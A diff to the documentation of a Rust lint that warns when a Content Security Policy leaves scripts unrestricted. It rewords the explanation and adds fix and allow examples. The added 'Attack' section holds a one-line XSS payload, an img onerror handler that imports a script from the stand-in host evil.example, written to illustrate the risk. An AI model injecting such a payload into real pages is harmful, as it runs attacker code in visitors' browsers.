@@ -6,14 +6,20 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for an enforced policy in which no directive decides about scripts. One that says nothing of what the page
-    /// loads, and only who may frame it or where it may send forms, is a warning. Where `script_src_elem` stands
-    /// without a fallback, `csp_elem_without_script_src` speaks instead.
+    /// Looks for an enforced policy without a directive that takes effect for scripts. If the policy restricts nothing
+    /// that the page loads, only who may frame it or where it sends forms, that is a warning. If `script_src_elem` has
+    /// nothing to fall back to, `csp_elem_without_script_src` reports that instead.
     ///
     /// # Why it matters
     ///
-    /// A directive that is absent, and has no `default_src` to fall back to, restricts nothing. Every script runs, an
-    /// injected one too, and a script can do all that the other directives were to prevent.
+    /// An absent directive without `default_src` to fall back to restricts nothing. Every script runs, including an
+    /// injected one, and a script can do everything that the other directives prevent.
+    ///
+    /// # Attack
+    ///
+    /// ```html
+    /// <img src="x" onerror="import('https://evil.example/a.js')">
+    /// ```
     ///
     /// # Example
     ///
@@ -21,19 +27,30 @@ lint! {
     /// content_security_policy: { img_src: self },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Write `default_src`, and `script_src: nonce` if the pages have inline scripts.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, img_src: [self, data] },
     /// ```
     ///
-    /// Under a `sandbox` that does not say `allow_scripts`, no script runs anyway.
+    /// A `sandbox` without `allow_scripts` needs no `script_src`.
+    ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_missing_script_src, reason = "the application that this proxy serves sends script-src")]
+    /// content_security_policy: { … },
+    /// ```
+    ///
+    /// Reasonable where another policy, which this crate does not see, restricts scripts.
     ///
     /// # References
     ///
-    /// - [CSP3, section 6.1](https://w3c.github.io/webappsec-csp/#directives-fetch)
-    /// - [CSP3, section 6.8.3](https://w3c.github.io/webappsec-csp/#directive-fallback-list)
-    Deny "scripts may come from everywhere" missing, check
+    /// - [CSP3, section 6.1, fetch directives](https://w3c.github.io/webappsec-csp/#directives-fetch)
+    /// - [CSP3, section 6.8.3, which directive falls back to which](https://w3c.github.io/webappsec-csp/#directive-fallback-list)
+    Deny "scripts may come from anywhere" missing, check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -52,6 +69,6 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
         level,
         Diagnostic::finding(header.span, "this policy does not restrict scripts")
             .help("add `default_src: self`, and `script_src: nonce` where the pages have inline scripts")
-            .note("every script runs, an injected one too"),
+            .note("every script runs, including an injected one"),
     );
 }
